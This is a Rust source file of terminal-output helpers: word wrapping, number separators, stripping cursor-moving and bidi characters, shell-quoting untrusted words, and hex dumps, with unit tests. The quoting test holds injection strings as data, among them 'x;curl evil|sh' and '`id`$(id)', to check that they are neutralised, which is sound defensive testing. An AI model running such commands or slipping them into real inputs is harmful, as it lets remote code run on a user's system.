//! Text for a terminal of 80 columns, and JSON.

use std::{
    fmt::Display,
    io::{self, BufRead, IsTerminal, Write},
    time::SystemTime,
};

use anyhow::bail;

/// The columns of a terminal.
pub(super) const WIDTH: usize = 80;

/// Standard output. Remembers a failed write instead of ending the work in the middle.
#[derive(Default)]
pub(super) struct Out {
    failed: std::sync::atomic::AtomicBool,
}

impl Out {
    /// Writes a line.
    pub(super) fn line(&self, text: impl Display) {
        self.bytes(format!("{text}\n").as_bytes());
    }

    /// Writes bytes.
    pub(super) fn bytes(&self, bytes: &[u8]) {
        if !self.is_closed() && io::stdout().write_all(bytes).is_err() {
            self.failed
                .store(true, std::sync::atomic::Ordering::Relaxed);
        }
    }

    /// Whether a write failed: nobody reads any more, or the disk is full.
    pub(super) fn is_closed(&self) -> bool {
        self.failed.load(std::sync::atomic::Ordering::Relaxed)
    }
}

/// Asks whether to go on. Without a terminal nobody answers, so that is an error.
pub(super) fn confirm(question: &str) -> anyhow::Result<bool> {
    if !io::stdin().is_terminal() {
        bail!("{question} Nobody can answer, because standard input is no terminal: pass --yes");
    }
    let mut err = io::stderr();
    write!(err, "{question} [y/N] ")?;
    err.flush()?;
    let mut answer = String::new();
    io::stdin().lock().read_line(&mut answer)?;
    Ok(matches!(answer.trim(), "y" | "Y" | "yes"))
}

/// The text in lines of at most [`WIDTH`] columns. The lines after the first begin with `indent`
/// spaces. A word that is longer stays whole.
pub(super) fn wrapped(text: &str, indent: usize) -> String {
    let words = text.trim_start_matches(' ');
    let start = text.len() - words.len();
    let mut lines = " ".repeat(start);
    let mut column = start;
    for (number, word) in words.split(' ').enumerate() {
        let length = word.chars().count();
        if number > 0 && column + 1 + length > WIDTH {
            lines.push('\n');
            lines.push_str(&" ".repeat(indent));
            column = indent;
        } else if number > 0 {
            lines.push(' ');
            column += 1;
        }
        lines.push_str(word);
        column += length;
    }
    lines
}

/// `1 letter`, `12,345 letters`.
pub(super) fn letters(number: u64) -> String {
    let ending = if number == 1 { "" } else { "s" };
    format!("{} letter{ending}", count(number))
}

/// A number with separators: `12,345`.
pub(super) fn count(number: u64) -> String {
    let digits = number.to_string();
    let mut text = String::with_capacity(digits.len() + digits.len() / 3);
    for (at, digit) in digits.chars().enumerate() {
        if at > 0 && (digits.len() - at).is_multiple_of(3) {
            text.push(',');
        }
        text.push(digit);
    }
    text
}

/// A time to the second, in UTC; `-` if it is not known.
pub(super) fn time(time: Option<SystemTime>) -> String {
    time.map_or_else(
        || "-".to_owned(),
        |time| humantime::format_rfc3339_seconds(time).to_string(),
    )
}

/// The text on one line, without characters that move the cursor or turn the text round, cut to this many
/// characters.
pub(super) fn cut(text: &str, most: usize) -> String {
    let plain: String = text
        .chars()
        .map(|letter| match lapwing::is_hidden(letter) {
            true => ' ',
            false => letter,
        })
        .collect();
    match plain.chars().count() > most {
        true => plain
            .chars()
            .take(most.saturating_sub(1))
            .chain(['…'])
            .collect(),
        false => plain,
    }
}

/// A word of others as a shell takes it: as it is, or in quotes. What cannot be seen is written as an escape of
/// `$'..'`, which bash, zsh and ksh know.
pub(super) fn quoted(word: &str) -> String {
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "._:-".contains(letter);
    if !word.is_empty() && !word.starts_with('-') && word.chars().all(is_plain) {
        return word.to_owned();
    }
    if !word.contains(lapwing::is_hidden) {
        return format!("'{}'", word.replace('\'', r"'\''"));
    }
    let escaped = word.chars().map(|letter| match letter {
        '\'' | '\\' => format!("\\{letter}"),
        _ if letter.is_ascii_control() => format!("\\x{:02x}", u32::from(letter)),
        _ if lapwing::is_hidden(letter) => format!("\\u{:04x}", u32::from(letter)),
        _ => letter.to_string(),
    });
    format!("$'{}'", escaped.collect::<String>())
}

/// A text that may be long, such as an error, in at most so many lines behind `indent` spaces. A word that is
/// too long for a line is broken. What does not fit is left out in the middle: the end of an error often says
/// most.
pub(super) fn folded(text: &str, indent: usize, most: usize) -> Vec<String> {
    let text = cut(text, usize::MAX);
    let room = WIDTH.saturating_sub(indent).max(1);
    let mut lines = broken(&text, room);
    if lines.len() > most {
        let last = most / 2;
        lines.truncate(most - last);
        lines.extend(broken(&tail(&text, last * room), room));
        lines.truncate(most);
    }
    let pad = " ".repeat(indent);
    lines.iter().map(|line| format!("{pad}{line}")).collect()
}

/// The end of a text, from the beginning of a word, as far as its words fit so many characters.
fn tail(text: &str, room: usize) -> String {
    let mut room = room.saturating_sub(2);
    let mut words = Vec::new();
    for word in text.rsplit(' ') {
        let length = word.chars().count() + 1;
        if length > room {
            if words.is_empty() {
                let skip = word.chars().count().saturating_sub(room);
                words.push(word.chars().skip(skip).collect());
            }
            break;
        }
        room -= length;
        words.push(word.to_owned());
    }
    words.push("…".to_owned());
    words.reverse();
    words.join(" ")
}

/// A text in lines of at most so many characters.
fn broken(text: &str, room: usize) -> Vec<String> {
    let (mut lines, mut line, mut used) = (Vec::new(), String::new(), 0);
    for word in text.split(' ').filter(|word| !word.is_empty()) {
        let letters: Vec<char> = word.chars().collect();
        for (number, part) in letters.chunks(room).enumerate() {
            let space = usize::from(used > 0 && number == 0);
            if used + space + part.len() > room {
                lines.push(std::mem::take(&mut line));
                used = 0;
            } else if space > 0 {
                line.push(' ');
                used += 1;
            }
            line.extend(part);
            used += part.len();
        }
    }
    lines.push(line);
    lines
}

/// A text in lines of a terminal, from this column on. The first line begins with `head`; a head that is
/// too long has a line of its own. A word that does not fit has a line of its own.
pub(super) fn in_column(head: &str, text: &str, column: usize) -> Vec<String> {
    let mut lines = Vec::new();
    let mut line = head.to_owned();
    if line.chars().count() >= column && column > 0 {
        lines.push(std::mem::take(&mut line));
    }
    let mut is_empty = true;
    let pad = |line: &mut String| {
        let missing = column.saturating_sub(line.chars().count());
        line.push_str(&" ".repeat(missing));
    };
    pad(&mut line);
    for word in text.split(' ').filter(|word| !word.is_empty()) {
        let space = usize::from(!is_empty);
        if !is_empty && line.chars().count() + space + word.chars().count() > WIDTH {
            lines.push(std::mem::take(&mut line));
            pad(&mut line);
            is_empty = true;
        }
        if !is_empty {
            line.push(' ');
        }
        line.push_str(word);
        is_empty = false;
    }
    lines.push(line.trim_end().to_owned());
    lines
}

/// Bytes in hexadecimal and as text, 16 in each line.
pub(super) fn hex(bytes: &[u8]) -> String {
    let mut text = String::new();
    for (at, row) in bytes.chunks(16).enumerate() {
        let hex: Vec<_> = row.iter().map(|byte| format!("{byte:02x}")).collect();
        let seen = |byte: &u8| match byte {
            0x20..=0x7e => char::from(*byte),
            _ => '.',
        };
        let seen: String = row.iter().map(seen).collect();
        text.push_str(&format!("{:08x}  {:<47}  {seen}\n", at * 16, hex.join(" ")));
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_have_separators() {
        for (number, text) in [
            (0, "0"),
            (999, "999"),
            (1_000, "1,000"),
            (1_234_567, "1,234,567"),
        ] {
            assert_eq!(count(number), text);
        }
    }

    #[test]
    fn a_text_fits_its_columns_and_cannot_move_the_cursor() {
        assert_eq!(cut("a\nb\u{1b}[2J", 80), "a b [2J");
        assert_eq!(cut("a\u{202e}b\u{2066}c\u{2028}d", 80), "a b c d");
        assert_eq!(folded("a\u{202e}b", 0, 1), ["a b"]);
        assert_eq!(cut("äöüß", 3), "äö…");
        assert_eq!(cut("äöü", 3), "äöü");
    }

    #[test]
    fn a_word_of_others_is_one_word_of_a_shell() {
        for (word, wanted) in [
            ("order-554.a:B_9", "order-554.a:B_9"),
            ("a b", "'a b'"),
            ("x;curl evil|sh", "'x;curl evil|sh'"),
            ("`id`$(id)", "'`id`$(id)'"),
            ("it's", r"'it'\''s'"),
            ("-rf", "'-rf'"),
            ("", "''"),
            ("a\n'b\\\u{202e}", r"$'a\x0a\'b\\\u202e'"),
        ] {
            assert_eq!(quoted(word), wanted);
        }
    }

    #[test]
    fn a_long_text_is_wrapped_between_its_words() {
        let text = format!("  a {}", "word ".repeat(30));
        let lines = wrapped(text.trim_end(), 6);
        assert!(
            lines.lines().count() == 2 && lines.starts_with("  a "),
            "{lines}"
        );
        assert!(lines.lines().all(|line| line.chars().count() <= WIDTH));
        assert!(
            lines
                .lines()
                .skip(1)
                .all(|line| line.starts_with("      word"))
        );
        assert_eq!(
            lines.split_whitespace().collect::<Vec<_>>().join(" "),
            text.trim()
        );
        let whole = "x".repeat(100);
        assert_eq!(wrapped(&whole, 2), whole);
    }

    #[test]
    fn a_folded_text_keeps_its_end_and_fits() {
        assert_eq!(folded("a\tb", 2, 2), ["  a b"]);
        let url = format!("http://service.example/{}", "x".repeat(120));
        let error = format!("error sending request for url ({url}): tcp connect error: refused");
        for (indent, most) in [(2, 3), (9, 2), (0, 5)] {
            let lines = folded(&error, indent, most);
            assert!(lines.len() <= most, "{lines:#?}");
            let widths = lines.iter().map(|line| line.chars().count());
            assert!(widths.max() <= Some(WIDTH), "{lines:#?}");
            assert!(lines[0].trim_start().starts_with("error sending"));
            assert!(
                lines.last().is_some_and(|it| it.ends_with("refused")),
                "{lines:#?}"
            );
        }
        let words = "word ".repeat(100);
        let lines = folded(&format!("{words}last"), 4, 3);
        assert!(
            lines[2].starts_with("    … word") && lines[2].ends_with(" last"),
            "{lines:#?}"
        );
        assert_eq!(lines.len(), 3);
        let one = folded(&"x".repeat(500), 0, 2);
        assert!(one.len() <= 2 && one.iter().all(|line| line.chars().count() <= WIDTH));
    }

    #[test]
    fn bytes_are_shown_as_hexadecimal_and_text() {
        let text = hex(b"\x00AB~\xff and more than a line");
        let lines: Vec<_> = text.lines().collect();
        assert_eq!(
            lines[0],
            "00000000  00 41 42 7e ff 20 61 6e 64 20 6d 6f 72 65 20 74  .AB~. and more t"
        );
        assert!(lines[0].len() <= WIDTH);
    }

    #[test]
    fn a_long_text_is_wrapped_below_its_beginning() {
        let text = "word ".repeat(30);
        let lines = in_column("OK   broker", &text, 28);
        assert!(
            lines.iter().all(|line| line.chars().count() <= WIDTH),
            "{lines:#?}"
        );
        assert!(lines[0].starts_with("OK   broker                 word word"));
        assert!(lines[1].starts_with(&" ".repeat(28)));
        assert_eq!(lines.concat().matches("word").count(), 30);
        let long = "x".repeat(90);
        assert_eq!(
            in_column("", &format!("a {long} b"), 0),
            ["a", long.as_str(), "b"]
        );
        assert_eq!(
            in_column("a-head-that-is-long", "b", 4),
            ["a-head-that-is-long", "    b"]
        );
    }
}
